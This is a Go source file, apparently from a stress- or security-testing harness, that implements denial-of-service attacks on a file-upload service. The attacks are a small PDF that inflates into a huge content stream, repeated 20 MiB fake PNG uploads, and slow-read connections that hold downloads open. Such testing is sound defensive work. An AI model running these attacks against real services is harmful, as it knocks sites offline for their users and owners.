package main

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"net"
	"net/http"
	"strings"
	"time"
)

// pdf returns a document with one page that has the given content, compressed.
func pdf(content []byte) []byte {
	var deflated, out bytes.Buffer
	w := zlib.NewWriter(&deflated)
	_, _ = w.Write(content) // writing to a buffer never fails
	_ = w.Close()
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
		fmt.Sprintf("<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream", deflated.Len(), deflated.String()),
	}
	out.WriteString("%PDF-1.7\n")
	var table strings.Builder
	for i, object := range objects {
		fmt.Fprintf(&table, "%010d 00000 n \n", out.Len())
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, object)
	}
	at := out.Len()
	fmt.Fprintf(&out, "xref\n0 5\n0000000000 65535 f \n%strailer << /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF", table.String(), at)
	return out.Bytes()
}

// documents is an attack that uploads documents. A document is small, but the service needs seconds
// to read it.
func documents(a *attacker) (func(int) bool, error) {
	bomb := form("a.pdf", "application/pdf", pdf(bytes.Repeat([]byte("q Q "), 60_000_000)))
	return func(worker int) bool {
		if !a.take(len(bomb)) {
			return false
		}
		session := fmt.Sprintf("documents-%d", worker)
		got, _ := a.mallory(session).upload(session, bomb)
		a.note(got)
		return true
	}, nil
}

// picture returns 20 MiB of data that begins like a PNG file.
func picture() []byte {
	content := make([]byte, 20<<20-1024)
	copy(content, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00")
	return form("a.png", "image/png", content)
}

// uploads is an attack that stores files of 20 MiB. Each worker uses its own session.
func uploads(a *attacker) (func(int) bool, error) {
	large := picture()
	return func(worker int) bool {
		if !a.take(len(large)) {
			return false
		}
		session := fmt.Sprintf("uploads-%d", worker)
		got, _ := a.mallory(session).upload(session, large)
		a.note(got)
		return true
	}, nil
}

// links is an attack that downloads a file of 20 MiB through a link. Each connection reads only 40
// kB per second.
func links(a *attacker) (func(int) bool, error) {
	got, link := a.mallory("links").upload("links", picture())
	if link == "" {
		return nil, fmt.Errorf("cannot upload a file: %s", got)
	}
	address := strings.TrimPrefix(a.url, "http://")
	path := strings.TrimPrefix(link, a.url)
	return func(int) bool {
		if !a.take(len(path)) {
			return false
		}
		a.note(sip(address, path))
		return true
	}, nil
}

// sipping is the time for which a slow reader keeps a connection open.
const sipping = 20 * time.Second

// sip requests a path and reads the response slowly. sip ends after a while and returns the status
// of the response.
func sip(address, path string) string {
	raw, err := net.Dial("tcp", address)
	if err != nil {
		return "cut off"
	}
	defer raw.Close()
	_ = raw.(*net.TCPConn).SetReadBuffer(4096) // the kernel's default receive buffer would be too large
	if _, err := fmt.Fprintf(raw, "%s %s HTTP/1.1\r\nHost: %s\r\n\r\n", http.MethodGet, path, address); err != nil {
		return "cut off"
	}
	_ = raw.SetReadDeadline(time.Now().Add(sipping))
	status, chunk := "no answer", make([]byte, 4096)
	for began := time.Now(); time.Since(began) < sipping; time.Sleep(100 * time.Millisecond) {
		n, err := raw.Read(chunk)
		if status == "no answer" && n >= len("HTTP/1.1 200") {
			status = string(chunk[len("HTTP/1.1 "):len("HTTP/1.1 200")])
		}
		if err != nil || status != "200" && status != "no answer" {
			return status
		}
	}
	return status
}
